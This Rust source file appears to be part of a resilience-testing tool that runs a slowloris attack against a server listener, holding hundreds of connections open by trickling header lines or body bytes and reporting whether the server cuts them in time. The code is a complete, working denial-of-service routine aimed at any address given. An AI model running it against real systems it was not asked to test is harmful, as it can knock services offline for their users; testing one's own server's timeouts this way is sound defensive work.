//! `slowloris`: many connections that send a request head, or a body, a byte at a time and
//! never finish, reopened as soon as the server cuts one. Reports how long the server let
//! each one live and what it answered.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use reclaimd::config::parse_duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::raw::{NoResponse, Reader};

#[derive(Debug, Clone, Copy, PartialEq, clap::ValueEnum)]
pub enum Kind {
    /// A request head that never ends: one more header line every `--every`.
    Head,
    /// A complete head announcing a 1000-byte body, then one body byte every `--every`.
    Body,
}

#[derive(Debug, Clone, clap::Args)]
pub struct Args {
    /// The listener to attack (host:port).
    #[arg(long)]
    addr: SocketAddr,
    /// Connections held open at once.
    #[arg(long, default_value_t = 300)]
    conns: usize,
    #[arg(long, value_enum)]
    kind: Kind,
    /// Method and path of the request (the body kind needs a route that reads its body).
    #[arg(long, default_value = "POST /api/orders")]
    request: String,
    /// Extra header line, e.g. `Authorization: Bearer s3cret`.
    #[arg(long)]
    header: Option<String>,
    /// Pause between two trickled bytes or lines.
    #[arg(long, value_parser = parse_duration, default_value = "500ms")]
    every: Duration,
    /// How long to keep the attack up.
    #[arg(long = "for", value_parser = parse_duration, default_value = "15s")]
    duration: Duration,
    /// A connection the server has not cut after this long counts as never cut.
    #[arg(long, value_parser = parse_duration, default_value = "10s")]
    cut_within: Duration,
}

#[derive(Debug, Default)]
struct Tally {
    opened: u64,
    connect_failed: u64,
    /// How long each connection lived until the server cut it (ms).
    lived_ms: Vec<f64>,
    /// Responses the server sent before cutting, by status.
    statuses: BTreeMap<u16, u64>,
    /// Connections still open `cut_within` after they began.
    never_cut: u64,
    malformed: u64,
}

pub async fn run(args: Args) -> bool {
    let tally = Arc::new(Mutex::new(Tally::default()));
    let end = Instant::now() + args.duration;
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..args.conns {
        let (args, tally) = (args.clone(), tally.clone());
        tasks.spawn(async move {
            // Stagger the first wave a little, as a real attacker's connections arrive.
            tokio::time::sleep(Duration::from_millis((i % 50) as u64 * 10)).await;
            while Instant::now() < end {
                one(&args, &tally).await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
    let mut t = tally.lock().unwrap_or_else(|e| e.into_inner());
    t.lived_ms.sort_by(f64::total_cmp);
    let q = |p: f64| {
        t.lived_ms
            .get(((t.lived_ms.len() as f64 * p) as usize).min(t.lived_ms.len().saturating_sub(1)))
            .copied()
            .unwrap_or(0.0)
    };
    let s: Vec<String> = t.statuses.iter().map(|(s, n)| format!("{s}:{n}")).collect();
    println!(
        "slowloris {:?} on {}: connections={} cut={} never_cut={} connect_failed={} malformed={} lived_ms p50={:.0} max={:.0} responses={}",
        args.kind,
        args.addr,
        t.opened,
        t.lived_ms.len(),
        t.never_cut,
        t.connect_failed,
        t.malformed,
        q(0.5),
        t.lived_ms.last().copied().unwrap_or(0.0),
        if s.is_empty() { "none".into() } else { s.join(",") }
    );
    t.never_cut == 0 && t.malformed == 0
}

/// One slow connection, until the server cuts it, the attack ends, or `cut_within` passes.
async fn one(args: &Args, tally: &Mutex<Tally>) {
    let record = |f: &dyn Fn(&mut Tally)| f(&mut tally.lock().unwrap_or_else(|e| e.into_inner()));
    let Ok(Ok(mut stream)) =
        tokio::time::timeout(Duration::from_secs(10), TcpStream::connect(args.addr)).await
    else {
        record(&|t| t.connect_failed += 1);
        tokio::time::sleep(Duration::from_millis(100)).await;
        return;
    };
    record(&|t| t.opened += 1);
    let began = Instant::now();
    let extra = args
        .header
        .as_ref()
        .map(|h| format!("{h}\r\n"))
        .unwrap_or_default();
    let head = match args.kind {
        Kind::Head => format!("{} HTTP/1.1\r\nHost: slow\r\n{extra}", args.request),
        Kind::Body => format!(
            "{} HTTP/1.1\r\nHost: slow\r\n{extra}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
            args.request
        ),
    };
    let mut reader = Reader::new();
    let mut sent = stream.write_all(head.as_bytes()).await.is_ok();
    let mut n = 0u64;
    loop {
        // Wait one interval for the server to answer or close; otherwise trickle more.
        let wait = Instant::now() + args.every;
        let outcome = if sent {
            reader.response(&mut stream, wait, false).await
        } else {
            Err(NoResponse::Closed)
        };
        match outcome {
            Ok(r) => {
                record(&|t| *t.statuses.entry(r.status).or_default() += 1);
                // A response to an unfinished request is the server giving up on it: it must
                // close now.
                let closed = reader
                    .closed_within(&mut stream, Duration::from_secs(2))
                    .await;
                let lived = began.elapsed().as_secs_f64() * 1e3;
                record(&|t| {
                    if closed {
                        t.lived_ms.push(lived);
                    } else {
                        t.never_cut += 1;
                    }
                });
                return;
            }
            Err(NoResponse::Closed) => {
                let lived = began.elapsed().as_secs_f64() * 1e3;
                record(&|t| t.lived_ms.push(lived));
                return;
            }
            Err(NoResponse::Malformed(_)) => {
                record(&|t| t.malformed += 1);
                return;
            }
            Err(NoResponse::Timeout) => {}
        }
        if began.elapsed() > args.cut_within {
            record(&|t| t.never_cut += 1);
            return;
        }
        n += 1;
        let more = match args.kind {
            Kind::Head => format!("X-Slow-{n}: {n}\r\n").into_bytes(),
            Kind::Body => b"x".to_vec(),
        };
        sent = stream.write_all(&more).await.is_ok();
    }
}
